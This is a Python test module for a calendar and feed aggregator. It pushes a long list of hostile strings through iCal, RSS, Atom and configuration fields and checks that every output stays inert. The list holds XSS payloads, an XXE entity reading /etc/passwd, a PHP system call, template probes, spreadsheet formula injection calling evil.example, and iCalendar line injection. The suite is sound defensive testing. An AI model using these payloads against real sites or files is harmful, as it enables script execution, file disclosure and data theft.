"""Nothing that a stranger writes runs, or becomes a line or element of its own, in any output.

Every string goes into every text field of iCal, RSS and Atom feeds, and of ``feeds.yaml``, in
several escapings; the real pipeline runs; then every file in ``output/`` is read by parsers that
the text cleaner does not use (html.parser, ElementTree, an unfolder of our own), and by a browser's
(lexbor). Beside them stands what the same calendar looks like with harmless events.
"""

from __future__ import annotations

import html
import json
import re
from collections import Counter
from collections.abc import Callable, Iterable, Iterator
from dataclasses import dataclass, field
from datetime import UTC, datetime, timedelta
from html.parser import HTMLParser
from pathlib import Path
from urllib.parse import urlsplit
from xml.etree import ElementTree as ET

import pytest
from jinja2 import Environment, FileSystemLoader
from selectolax.lexbor import LexborHTMLParser

from aggregator import config
from aggregator.collect import text
from aggregator.publish import files, ical, page, rss
from tests.world import World

HARMLESS = "Führung"
OWN = (
    # markup that runs
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<script\x0b>alert(1)</script\t\n>",
    "<<script>script>alert(1)<</script>/script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror=alert(1)//",
    "<img/src='x'/onerror=alert`1`",
    '<a href="https://a.example/" onclick="alert(1)',
    "<svg/onload=alert(1)>",
    "<svg><script>alert&#40;1&#41;</script></svg>",
    "<svg><animate attributeName=href values=javascript:alert(1) /><a id=x><text>x",
    "<math><mtext></p><style><img src onerror=alert(1)></style></mtext></math>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<style>@import '//evil.example/x.css';*{background:url(javascript:alert(1))}</style>",
    '<p style="background:url(javascript:alert(1))">x</p>',
    "<iframe srcdoc='&lt;script&gt;alert(1)&lt;/script&gt;'></iframe>",
    "<object data=data:text/html;base64,PHNjcmlwdD4=></object><embed src=//evil.example>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'><base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<form action=//evil.example><input autofocus onfocus=a()>",
    "<details open ontoggle=alert(1)><summary>x",
    "<textarea></textarea><script>alert(1)</script>",
    "<title></title><script>alert(1)</script>",
    "<template><script>alert(1)</script></template>",
    "<plaintext><xmp><listing>",
    "<!--><script>alert(1)</script>-->",
    "<!--<img src='--><img src=x onerror=alert(1)//'>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><?php system('id') ?><% code %>",
    "<x:script xmlns:x='http://www.w3.org/1999/xhtml'>alert(1)</x:script>",
    "<a href='javascript:alert(1)'>x</a><a href=vbscript:x>y</a>",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "<\u0000script>alert(1)</scr\u0000ipt>",
    "<\u200bscript>alert(1)</\ufeffscript>",
    "<s\u00adcript>alert(1)</s\u00adcript>",
    # escaped, once and many times
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#x3c;/script&#x3E;",
    "&ltscript&gtalert(1)&lt/script&gt",
    "&amp;lt;img src=x onerror=alert(1)&amp;gt;",
    "&" + "amp;" * 7 + "lt;script&" + "amp;" * 7 + "gt;alert(1)",
    "&" + "amp;" * 12 + "lt;script&" + "amp;" * 12 + "gt;alert(1)",
    "&lt;&lt;script&gt;script&gt;alert(1)&lt;/script&gt;",
    "&lt;img src=x onerror=alert(1) title=&quot;",
    # out of an attribute or an element
    '" onmouseover="alert(1)',
    "' onmouseover='alert(1)",
    "` onmouseover=`alert(1)",
    '"><script>alert(1)</script>',
    "'><svg/onload=alert(1)>",
    "</title></style></textarea></script><script>alert(1)</script>",
    "]]></description></item><item><title>&lt;b&gt;x</title>",
    "]]><script>alert(1)</script><![CDATA[",
    '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;',
    "&e;&nbsp;&unknown;&#0;&#xD800;&#xFFFE;&#x110000;",
    # addresses
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)//https://a.example/",
    "java\tscript:alert(1)",
    "java\nscript:alert(1)",
    "\x01javascript:alert(1)",
    " javascript:alert(1)",
    "javascript&colon;alert(1)",
    "&#106;avascript:alert(1)",
    "javascript\uff1aalert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    "feed:javascript:alert(1)",
    "view-source:javascript:alert(1)",
    "https:javascript:alert(1)",
    "//evil.example/x",
    'https://a.example/"onmouseover="alert(1)',
    "https://a.example/'><script>alert(1)</script>",
    "https://a.example/?q=<script>alert(1)</script>#\"'`",
    "https://user:pass@evil.example/",
    "https://a.example\\@evil.example/",
    "https://a.example/\r\nX-INJECTED:1",
    "mailto:a@b.example?subject=<script>",
    "file:///etc/passwd",
    "/javascript:alert(1)",
    "www.a.example/<script>",
    # templates and tables
    "{{ 7*7 }}{% raw %}{{ config }}{# x #}",
    "{% import os %}{{ self.__init__.__globals__ }}",
    "${7*7}#{7*7}<%= 7*7 %>%(x)s{0.__class__}",
    '=HYPERLINK("https://evil.example/?"&A1,"x")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    # lines of their own
    "x\r\nX-INJECTED:1\r\nATTENDEE:mailto:a@b.example",
    "x\nEND:VEVENT\nBEGIN:VEVENT\nUID:injected\nDTSTART:20260601T100000Z\nSUMMARY:injected",
    "x\rX-INJECTED:1",
    "x\\nX-INJECTED:1",
    "x\\\\nX-INJECTED:1\\",
    "x\x85X-INJECTED:1",
    "x\u2028X-INJECTED:1\u2029ATTACH:file:///etc/passwd",
    "x\x0bX-INJECTED:1\x0cEND:VCALENDAR",
    "x\x1cX-INJECTED:1\x1d1\x1e2",
    'x";X-INJECTED="1:2',
    "x;VALUE=URI:javascript:alert(1)",
    "^nX-INJECTED:1^'",
    "BEGIN:VALARM",
    "END:VCALENDAR",
    # characters that mislead
    "\u202etxt.exe\u202c\u2066x\u2069\u200e\u200f",
    "\x1b]0;x\x07\x1b[31mred",
    "\x00\x01\x08\x7f\x9f",
    "\ufdd0\ufffe\uffff\U0001fffe",
    "\U000e0041\U000e0042\U000e007f",
)


@dataclass(frozen=True, slots=True)
class Feed:
    """A feed to be served as ``name``, and how many events it tells of."""

    name: str
    body: str
    events: int = 1


_EVENTS_TO_A_FEED = 100


class _Moments:
    """A start of its own for each event, so that none is taken for another."""

    def __init__(self) -> None:
        self._next = datetime(2026, 6, 1, 8, tzinfo=UTC)

    def __call__(self) -> datetime:
        self._next += timedelta(hours=3)
        return self._next


# --- the strings in every field ----------------------------------------------------------------


def _once(string: str) -> str:
    return html.escape(string)


def _twice(string: str) -> str:
    return html.escape(html.escape(string))


def _as_it_is(string: str) -> str:
    return string


def _vevent(string: str, start: datetime, number: int, escaped: Callable[[str], str]) -> str:
    """Text values escaped for iCalendar; ``escaped`` is what was done to the string before."""
    shown = escaped(string)
    value = re.sub(r"([\\;,])", r"\\\1", shown).replace("\r\n", "\\n").replace("\n", "\\n")
    bare = re.sub(r"[\r\n]", "", shown)
    quoted = bare.replace('"', "^'")
    return "\r\n".join(
        (
            "BEGIN:VEVENT",
            f"UID:{number}{value}",
            f"DTSTART:{start:%Y%m%dT%H%M%SZ}",
            f'SUMMARY;LANGUAGE="{quoted}":{value}',
            f"DESCRIPTION:{value}\\n\\n{value}",
            f"LOCATION:{value}",
            f"URL:{bare}",
            f"IMAGE;VALUE=URI:{bare}",
            f"ATTACH;FMTTYPE=image/png:{bare}",
            f"CATEGORIES:{value},{value}x",
            f'ORGANIZER;CN="{quoted}":mailto:a@museum.example',
            f"CONTACT:{value}",
            f"X-ALT-DESC;FMTTYPE=text/html:{value}",
            f"STATUS:{value}",
            "END:VEVENT",
            "",
        )
    )


def _calendar(events: Iterable[str], title: str = HARMLESS) -> str:
    name = re.sub(r"[\r\n]", "", title)
    head = (
        f"BEGIN:VCALENDAR\r\nVERSION:2.0\r\nPRODID:{name}\r\nX-WR-CALNAME:{name}\r\nNAME:{name}\r\n"
    )
    return head + "".join(events) + "END:VCALENDAR\r\n"


_RSS_HEAD = (
    '<?xml version="1.0" encoding="utf-8"?>\n<rss version="2.0" '
    'xmlns:ev="http://purl.org/rss/1.0/modules/event/" xmlns:xcal="urn:ietf:params:xml:ns:xcal" '
    'xmlns:content="http://purl.org/rss/1.0/modules/content/" '
    'xmlns:dc="http://purl.org/dc/elements/1.1/" xmlns:media="http://search.yahoo.com/mrss/">\n<channel>'
)


def _item(string: str, start: datetime, number: int, escaped: Callable[[str], str]) -> str:
    value, attribute = escaped(string), html.escape(string)
    return (
        f"<item><title>{value}</title><link>{value}</link><guid>{number}{value}</guid>"
        f"<description>{value}</description><content:encoded>{value}\n\n{value}</content:encoded>"
        f"<category>{value}</category><author>{value}</author><dc:creator>{value}</dc:creator>"
        f"<dc:language>{value}</dc:language><ev:startdate>{start.isoformat()}</ev:startdate>"
        f"<ev:location>{value}</ev:location><ev:organizer>{value}</ev:organizer>"
        f"<ev:type>{value}</ev:type><xcal:categories>{value}</xcal:categories>"
        f'<enclosure url="{attribute}" type="image/png" length="1"/>'
        f'<media:content url="{attribute}" medium="image"/></item>\n'
    )


def _news(items: Iterable[str], title: str = HARMLESS) -> str:
    name = html.escape(title)
    head = f"{_RSS_HEAD}<title>{name}</title><link>{name}</link><description>{name}</description>"
    return f"{head}<language>{name}</language>{''.join(items)}</channel></rss>"


def _cdata(string: str) -> str:
    return f"<![CDATA[{string.replace(']]>', ']]]]><![CDATA[>')}]]>"


def _entry(string: str, start: datetime, number: int) -> str:
    value = html.escape(string)
    return (
        f'<entry xml:lang="{value}"><id>{number}{value}</id><title type="html">{value}</title>'
        f'<link rel="alternate" href="{value}"/><summary type="html">{value}</summary>'
        f'<content type="html">{value}</content><category term="{value}" label="{value}"/>'
        f"<author><name>{value}</name><uri>{value}</uri></author>"
        f'<gd:when startTime="{start.isoformat()}"/><gd:where valueString="{value}"/>'
        f'<gd:who rel="x#event.organizer" valueString="{value}"/></entry>\n'
    )


def _atom(entries: Iterable[str]) -> str:
    head = '<feed xmlns="http://www.w3.org/2005/Atom" xmlns:gd="http://schemas.google.com/g/2005">'
    return f"{head}<title>{HARMLESS}</title>{''.join(entries)}</feed>"


def feeds(strings: Iterable[str], *, raw: bool) -> Iterator[Feed]:
    """Each string in every field of every format, in every escaping; ``raw``: also in none.

    What is not escaped may break its feed, so each is a feed of its own.
    """
    given, moment = list(strings), _Moments()
    for at in range(0, len(given), _EVENTS_TO_A_FEED):
        some = given[at : at + _EVENTS_TO_A_FEED]
        title = some[0]
        for escaped in (_as_it_is, _once, _twice):
            told = [_vevent(each, moment(), n, escaped) for n, each in enumerate(some)]
            yield Feed(f"{at}{escaped.__name__}.ics", _calendar(told, title), len(some))
        for escaped in (_once, _twice, _cdata):
            told = [_item(each, moment(), n, escaped) for n, each in enumerate(some)]
            yield Feed(f"{at}{escaped.__name__}.rss", _news(told, title), len(some))
        told = [_entry(each, moment(), n) for n, each in enumerate(some)]
        yield Feed(f"{at}.atom", _atom(told), len(some))
    if raw:
        for number, each in enumerate(given):
            yield Feed(f"raw{number}.rss", _news([_item(each, moment(), 1, _as_it_is)]), 0)
            whole = _vevent("@@", moment(), 1, _as_it_is).replace("@@", each)
            yield Feed(f"raw{number}.ics", _calendar([whole]), 0)


# --- the pipeline ------------------------------------------------------------------------------


class Attacked(World):
    """A calendar whose feeds, and whose names in ``feeds.yaml``, are given."""

    def __init__(
        self, folder: Path, served: Iterable[Feed], names: Iterable[str] = (HARMLESS,)
    ) -> None:
        folder.mkdir(parents=True, exist_ok=True)
        super().__init__(folder)
        self.served = list(served)
        self.names = [name for name in names if name.strip()]

    def configuration(self) -> config.Configuration:
        for feed in self.served:
            (self.folder / feed.name).write_bytes(feed.body.encode("utf-8", "surrogatepass"))
        first = self.names[0]
        told = {
            "calendar": {
                "title": first,
                "address": "https://calendar.example/",
                "contact": "office@calendar.example",
                "language": "de",
                "timezone": "Europe/Berlin",
            },
            "regions": [
                {
                    "id": f"r{n}",
                    "name": name,
                    "country": "DE",
                    "language": "de",
                    "timezone": "Europe/Berlin",
                }
                for n, name in enumerate(self.names)
            ],
            "partners": [
                {
                    "id": f"p{n}",
                    "name": name,
                    "region": f"r{n}",
                    "url": f"https://p{n}.example/'\"<b>",
                }
                for n, name in enumerate(self.names)
            ],
            "feeds": [
                {"id": f"f{n}", "partner": f"p{n % len(self.names)}", "url": feed.name}
                for n, feed in enumerate(self.served)
            ],
        }
        path = self.folder / "feeds.yaml"
        path.write_text(json.dumps(told), encoding="utf-8")  # JSON is YAML
        return config.load(path)


def run(world: Attacked) -> dict[str, bytes]:
    with pytest.MonkeyPatch.context() as patch:  # nothing may be cut off before it is looked at
        patch.setattr(files, "UPCOMING", 100_000)
        patch.setattr(rss, "MOST_ITEMS", 100_000)
        patch.setattr(rss, "MOST_BYTES", 100_000_000)
        assert ical.fit.__kwdefaults__ is not None
        patch.setitem(ical.fit.__kwdefaults__, "most_events", 100_000)
        patch.setitem(ical.fit.__kwdefaults__, "most_bytes", 100_000_000)
        world.run()
    return world.files()


# --- what is looked at -------------------------------------------------------------------------


class Tags(HTMLParser):
    """What a parser of HTML sees beside text: elements with attributes, comments, declarations."""

    def __init__(self, told: str) -> None:
        super().__init__(convert_charrefs=True)
        self.elements: list[tuple[str, dict[str, str]]] = []
        self.others: list[str] = []
        self.feed(told)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, {name: value or "" for name, value in attrs}))

    def handle_comment(self, data: str) -> None:
        self.others.append(f"comment {data}")

    def handle_decl(self, decl: str) -> None:
        self.others.append(f"declaration {decl}")

    def handle_pi(self, data: str) -> None:
        self.others.append(f"instruction {data}")

    def unknown_decl(self, data: str) -> None:
        self.others.append(f"declaration {data}")


def browser(told: str) -> list[tuple[str, dict[str, str]]]:
    """The elements that a browser makes of it, those that it adds by itself among them."""
    tree = LexborHTMLParser(told)
    assert tree.root is not None
    return [
        (node.tag or "", {name: value or "" for name, value in node.attributes.items()})
        for node in tree.root.traverse(include_text=False)
    ]


_ADDED = {"html", "head", "body"}
_BEHIND = '</td><p title="x">'
"""What a reader's own page may go on with: it closes a tag that was left open."""


def is_plain(told: str) -> str:
    """What markup the text holds for those who take it for HTML; "" where there is none."""
    seen = Tags(told)
    if seen.elements or seen.others:
        return f"html.parser: {seen.elements} {seen.others}"
    for more, expected in (("", []), (_BEHIND, [("p", {"title": "x"})])):
        found = [each for each in browser(told + more) if each[0] not in _ADDED]
        if found != expected:
            return f"browser: {found}"
    return ""


def is_web(address: str) -> bool:
    return (
        urlsplit(address).scheme in ("http", "https")
        and bool(urlsplit(address).hostname)
        and re.search(r"""[\s"'<>`\\\x00-\x1f]""", address.replace("'", "")) is None
        and address.isascii()
    )


@dataclass
class Seen:
    """What is wrong with the output, and how much was looked at."""

    wrong: list[str] = field(default_factory=list)
    counts: Counter[str] = field(default_factory=Counter)

    def expect(self, holds: object, what: str) -> None:
        if not holds:
            self.wrong.append(what)


def check(made: dict[str, bytes], harmless: dict[str, bytes]) -> Seen:
    """Every file of an output, beside that of a calendar with harmless events."""
    seen = Seen()
    seen.expect({Path(name).suffix for name in made} == {".html", ".ics", ".rss"}, "other files")
    for name, data in made.items():
        told = data.decode("utf-8")
        if name.endswith(".html"):
            _check_page(told, harmless["index.html"].decode(), seen)
        elif name.endswith(".rss"):
            _check_news(name, told, seen)
        else:
            _check_calendar(name, data, seen)
    return seen


_ONCE = (
    "html",
    "head",
    "body",
    "title",
    "style",
    "meta",
    "base",
    "script",
    "header",
    "main",
    "footer",
    "h1",
)


def _check_page(told: str, harmless: str, seen: Seen) -> None:
    for parse in (lambda page: Tags(page).elements, browser):
        allowed, found = parse(harmless), parse(told)
        kinds = {(tag, name) for tag, attributes in allowed for name in ("", *attributes)}
        for tag, attributes in found:
            strange = {name for name in ("", *attributes) if (tag, name) not in kinds}
            seen.expect(not strange, f"page: <{tag}> with {strange}")
            for name, value in attributes.items():
                seen.expect(not name.startswith("on") and name != "style", f"page: {name}={value}")
                if name in ("href", "src"):
                    ours = re.fullmatch(r"[a-z0-9/-]+\.(ics|rss)|#content|mailto:\S+@\S+", value)
                    seen.expect(ours or is_web(value), f"page: {name}={value}")
        before, now = Counter(tag for tag, _ in allowed), Counter(tag for tag, _ in found)
        for tag in _ONCE:
            seen.expect(before[tag] == now[tag], f"page: {now[tag]} <{tag}>, not {before[tag]}")
        seen.counts["dates on the page"] = now["time"]
    seen.expect(Tags(told).others == Tags(harmless).others, "page: comments or declarations")
    style = re.compile("<style>.*?</style>", re.DOTALL)
    seen.expect(style.findall(told) == style.findall(harmless), "page: another style")
    seen.expect(_is_clean(told), "page: control characters")


_NEWS_TAGS = {
    *("rss", "channel", "title", "link", "description", "language", "lastBuildDate", "ttl"),
    *("item", "pubDate", "guid", "category", "{http://www.w3.org/2005/Atom}link"),
    "{http://purl.org/dc/elements/1.1/}language",
    *(f"{{http://purl.org/rss/1.0/modules/event/}}{name}"
      for name in ("startdate", "enddate", "location", "organizer")),
    *(f"{{urn:ietf:params:xml:ns:xcal}}{name}"
      for name in ("summary", "dtstart", "dtend", "location")),
    "{http://www.georss.org/georss}point",
}  # fmt: skip
_NEWS_ATTRIBUTES = {
    "version",
    "rel",
    "href",
    "isPermaLink",
    "{http://www.w3.org/XML/1998/namespace}lang",
}
_OUR_MARKUP = {("p", ""), ("br", ""), ("strong", ""), ("a", ""), ("a", "href")}


def _check_news(name: str, told: str, seen: Seen) -> None:
    try:
        root = ET.fromstring(told)
    except ET.ParseError as error:
        seen.expect(False, f"{name}: {error}")
        return
    seen.expect(_is_clean(told), f"{name}: control characters")
    for element in root.iter():
        value = element.text or ""
        seen.expect(element.tag in _NEWS_TAGS, f"{name}: <{element.tag}>")
        seen.expect(set(element.attrib) <= _NEWS_ATTRIBUTES, f"{name}: {element.attrib}")
        language = element.attrib.get("{http://www.w3.org/XML/1998/namespace}lang", "de")
        seen.expect(re.fullmatch("[a-z]{2,3}", language), f"{name}: language {language}")
        if element.tag == "link":
            seen.expect(is_web(value), f"{name}: link {value}")
        elif element.tag == "description":
            _check_described(name, value, seen)
        else:
            why = is_plain(value)
            seen.expect(not why, f"{name}: {element.tag}: {value!r:.200}: {why}")
    seen.counts["items"] = max(seen.counts["items"], len(root.findall("channel/item")))


def _check_described(name: str, value: str, seen: Seen) -> None:
    """Readers take a description for HTML: there is ours, and none else."""
    for found in (Tags(value).elements, [one for one in browser(value) if one[0] not in _ADDED]):
        for tag, attributes in found:
            pairs = {(tag, attribute) for attribute in ("", *attributes)}
            seen.expect(pairs <= _OUR_MARKUP, f"{name}: description with {tag} {attributes}")
            seen.expect(is_web(attributes.get("href", "https://x/")), f"{name}: {attributes}")
    seen.expect(not Tags(value).others, f"{name}: description with {Tags(value).others}")


_PROPERTIES = {
    "VCALENDAR": {
        *("VERSION", "PRODID", "CALSCALE", "METHOD", "NAME", "X-WR-CALNAME", "DESCRIPTION"),
        *("X-WR-CALDESC", "REFRESH-INTERVAL", "X-PUBLISHED-TTL", "X-WR-TIMEZONE", "URL", "SOURCE"),
    },
    "VTIMEZONE": {"TZID"},
    "STANDARD": {"DTSTART", "TZOFFSETFROM", "TZOFFSETTO", "TZNAME", "RRULE"},
    "DAYLIGHT": {"DTSTART", "TZOFFSETFROM", "TZOFFSETTO", "TZNAME", "RRULE"},
    "VEVENT": {
        *("UID", "SEQUENCE", "DTSTAMP", "CREATED", "LAST-MODIFIED", "DTSTART", "DTEND", "SUMMARY"),
        *(
            "DESCRIPTION",
            "LOCATION",
            "GEO",
            "URL",
            "CATEGORIES",
            "IMAGE",
            "CONTACT",
            "STATUS",
            "TRANSP",
        ),
    },
}
_INSIDE = {
    "": {"VCALENDAR"},
    "VCALENDAR": {"VTIMEZONE", "VEVENT"},
    "VTIMEZONE": {"STANDARD", "DAYLIGHT"},
}
_PARAMETER = re.compile(r"LANGUAGE=[a-z]{2,3}|VALUE=(?:URI|DURATION|DATE)|TZID=Europe/Berlin")


def _check_calendar(name: str, data: bytes, seen: Seen) -> None:
    bare = data.decode().replace("\r\n", "")
    seen.expect(_is_clean(bare) and "\n" not in bare, f"{name}: control characters")
    lines: list[str] = []
    for physical in data.decode().split("\r\n"):
        if physical.startswith(" "):
            lines[-1] += physical[1:]
        else:
            lines.append(physical)
    seen.expect(lines.pop() == "", f"{name}: no line end at the end")
    open_: list[str] = [""]
    events = 0
    for line in lines:
        head, colon, value = line.partition(":")
        prop, *parameters = head.split(";")
        if prop == "BEGIN":
            seen.expect(value in _INSIDE.get(open_[-1], set()), f"{name}: {line} in {open_[-1]}")
            open_.append(value)
            events += value == "VEVENT"
        elif prop == "END":
            seen.expect(value == open_.pop(), f"{name}: {line}")
        else:
            known = _PROPERTIES.get(open_[-1], set())
            seen.expect(colon and prop in known, f"{name}: {line!r:.200} in {open_[-1]}")
            seen.expect(all(map(_PARAMETER.fullmatch, parameters)), f"{name}: {head!r:.200}")
            _check_value(name, prop, value, seen)
    seen.expect(open_ == [""], f"{name}: {open_} is not closed")
    seen.counts["events"] = max(seen.counts["events"], events)


def _check_value(name: str, prop: str, value: str, seen: Seen) -> None:
    if prop in ("URL", "IMAGE", "SOURCE"):
        seen.expect(is_web(value), f"{name}: {prop}:{value!r:.200}")
        return
    if prop not in ("GEO", "RRULE"):
        bare = re.sub(r"\\[\\;,n]", "", value)
        split = "\\;" if prop == "CATEGORIES" else "\\;,"
        seen.expect(not set(bare) & set(split), f"{name}: {prop} is not escaped: {value!r:.200}")
    undone = re.sub(r"\\(.)", lambda found: "\n" if found[1] == "n" else found[1], value)
    why = is_plain(undone)  # Google Calendar shows descriptions as HTML
    seen.expect(not why, f"{name}: {prop}: {undone!r:.200}: {why}")


def _is_clean(told: str) -> bool:
    """No control character, no line separator but our own, no mark that turns text round."""
    controls, lines = "\x00-\x08\x0b-\x1f\x7f-\x9f\ufdd0-\ufdef\ufffe\uffff", "\u2028\u2029"
    return re.search(f"[{controls}{lines}\u202a-\u202e\u2066-\u2069]", told) is None


# --- the tests ---------------------------------------------------------------------------------


@pytest.fixture(scope="module")
def harmless(tmp_path_factory: pytest.TempPathFactory) -> dict[str, bytes]:
    """The same calendar with events that nobody could object to."""
    plain = ["Führung", "https://museum.example/tour"]
    return run(Attacked(tmp_path_factory.mktemp("harmless"), feeds(plain, raw=False)))


def attack(
    folder: Path, strings: Iterable[str], harmless: dict[str, bytes], *, raw: bool = True
) -> Seen:
    served = list(feeds(strings, raw=raw))
    seen = check(run(Attacked(folder, served)), harmless)
    least = sum(feed.events for feed in served)
    assert seen.counts["events"] >= least, "every event that could be read is in the output"
    assert seen.counts["items"] >= least
    assert seen.counts["dates on the page"] >= least
    return seen


def test_harmless_events_pass(harmless: dict[str, bytes]):
    assert check(harmless, harmless).wrong == []


def test_nothing_of_our_own_strings_runs_anywhere(tmp_path: Path, harmless: dict[str, bytes]):
    assert attack(tmp_path, OWN, harmless).wrong == []


def test_names_in_the_configuration_are_text(tmp_path: Path, harmless: dict[str, bytes]):
    """Partners and regions are called so, the calendar as the first."""
    names = [name for name in OWN if not re.search("[\ud800-\udfff]", name)]
    served = [Feed(f"{n}.ics", _calendar([_event_of(n)])) for n in range(len(names))]
    seen = check(run(Attacked(tmp_path, served, names)), harmless)
    assert seen.wrong == []
    assert seen.counts["events"] == len(served)


@pytest.mark.parametrize("name", OWN[::9])
def test_the_calendars_title_is_text(tmp_path: Path, harmless: dict[str, bytes], name: str):
    seen = check(
        run(Attacked(tmp_path, [Feed("1.ics", _calendar([_event_of(1)]))], [name])), harmless
    )
    assert seen.wrong == []


def _event_of(number: int) -> str:
    return _vevent(
        HARMLESS, datetime(2026, 6, 1, tzinfo=UTC) + timedelta(days=number), number, _once
    )


@pytest.mark.proof
def test_nothing_of_the_feedparser_cases_runs_anywhere(
    tmp_path: Path, harmless: dict[str, bytes], shared_data: Path
):
    """What feedparser's tests of its sanitiser hold, 200 strings at a time."""
    strings = sorted(set(_cases(shared_data / "rss" / "feedparser")))
    assert len(strings) > 350
    for at in range(0, len(strings), 200):
        seen = attack(tmp_path / str(at), strings[at : at + 200], harmless)
        assert seen.wrong == []


_WRAPPERS = {"feed", "entry", "rss", "channel", "item", "RDF", "image", "textinput"}


def _cases(folder: Path) -> Iterator[str]:
    """The contents of all elements of the sanitiser's test feeds, markup of their own included."""
    files = sorted(path for path in folder.rglob("*.xml") if "sanitize" in path.parts)
    assert len(files) > 400
    for path in files:
        try:
            root = ET.fromstring(path.read_bytes())
        except ET.ParseError:
            yield path.read_text("utf-8", "replace")
            continue
        for element in root.iter():
            if element.tag.rpartition("}")[2] in _WRAPPERS:
                continue
            inner = "".join(ET.tostring(child, "unicode") for child in element)
            told = (element.text or "") + re.sub(
                r"<(/?)ns\d+:|\sxmlns(?::\w+)?=\"[^\"]*\"", r"<\1", inner
            )
            yield from (each for each in (told, *element.attrib.values()) if each.strip())


# --- that something would be noticed -----------------------------------------------------------

_NEVER = re.compile(r"(?!)")


def _no_cleaner(patch: pytest.MonkeyPatch) -> None:
    patch.setattr(text, "plain", text._clean)


def _tags_may_leave(patch: pytest.MonkeyPatch) -> None:
    patch.setattr("aggregator.publish.text._TAG_OPENS", _NEVER)


def _no_escaping_in_the_page(patch: pytest.MonkeyPatch) -> None:
    folder = Path(page.__file__).with_name("templates")
    loose = Environment(loader=FileSystemLoader(folder), autoescape=False)  # that is the point
    patch.setattr(page, "_template", lambda: loose.get_template("index.html"))


def _no_escaping_in_descriptions(patch: pytest.MonkeyPatch) -> None:
    patch.setattr(rss, "escape", _as_it_is)


def _no_escaping_in_xml(patch: pytest.MonkeyPatch) -> None:
    patch.setattr("xml.sax.saxutils.escape", lambda told, *_: told)


def _no_escaping_in_icalendar(patch: pytest.MonkeyPatch) -> None:
    patch.setattr(ical, "_ESCAPES", {})


def _any_address(patch: pytest.MonkeyPatch) -> None:
    patch.setattr(text, "address", lambda told, base="": told.strip())
    for module in (ical, rss, page):
        patch.setattr(module, "link", _as_it_is)


def _any_language(patch: pytest.MonkeyPatch) -> None:
    patch.setattr(text, "language", _as_it_is)
    patch.setattr(ical, "_LANGUAGE", re.compile(".*", re.DOTALL))


def _any_character(patch: pytest.MonkeyPatch) -> None:
    patch.setattr(text, "_UNWANTED", _NEVER)
    patch.setattr(text, "_LINE_BREAKS", _NEVER)
    patch.setattr("aggregator.publish.text._FORBIDDEN", _NEVER)
    patch.setattr("aggregator.publish.text._BREAK", _NEVER)


def _not(*guards: Callable[[pytest.MonkeyPatch], None]) -> Callable[[pytest.MonkeyPatch], None]:
    def patch_all(patch: pytest.MonkeyPatch) -> None:
        for guard in guards:
            guard(patch)

    return patch_all


_no_locks = _not(_no_cleaner, _tags_may_leave)


@pytest.mark.parametrize(
    ("without", "noticed"),
    [
        (_no_locks, r"calendar\.ics: SUMMARY.*script"),
        (_no_locks, r"calendar\.rss: title.*script"),
        (_not(_no_locks, _no_escaping_in_the_page), r"page: \d+ <script>"),
        (_no_escaping_in_the_page, r"page: onmouseover="),
        (_not(_no_locks, _no_escaping_in_descriptions), r"calendar\.rss: description with script"),
        (_no_escaping_in_icalendar, r"calendar\.ics: control characters"),
        (_any_address, r"calendar\.ics: URL:.*javascript"),
        (_any_address, r"calendar\.rss: link javascript"),
        (_any_address, r"page: href=javascript"),
        (_any_language, r"calendar\.ics: 'SUMMARY;LANGUAGE="),
        (_any_character, r"calendar\.ics: control characters"),
    ],
    ids=lambda one: one if isinstance(one, str) else "",
)
def test_a_guard_that_is_missing_is_noticed(
    tmp_path: Path,
    harmless: dict[str, bytes],
    monkeypatch: pytest.MonkeyPatch,
    without: Callable[[pytest.MonkeyPatch], None],
    noticed: str,
):
    strings = [
        *(
            "<script>alert(1)</script>",
            "javascript:alert(1)",
            "x\nX-INJECTED:1",
            "a\u202eb\u2066",
        ),
        '" onmouseover="alert(1)',
    ]
    world = Attacked(tmp_path, feeds(strings, raw=False), [HARMLESS, *strings])
    without(monkeypatch)
    wrong = check(run(world), harmless).wrong
    assert [one for one in wrong if re.match(noticed, one, re.DOTALL)], sorted(set(wrong))[:20]


@pytest.mark.parametrize("without", [_no_cleaner, _tags_may_leave])
def test_markup_of_feeds_meets_two_locks(
    tmp_path: Path,
    harmless: dict[str, bytes],
    monkeypatch: pytest.MonkeyPatch,
    without: Callable[[pytest.MonkeyPatch], None],
):
    without(monkeypatch)
    assert check(run(Attacked(tmp_path, feeds(OWN[::3], raw=False))), harmless).wrong == []
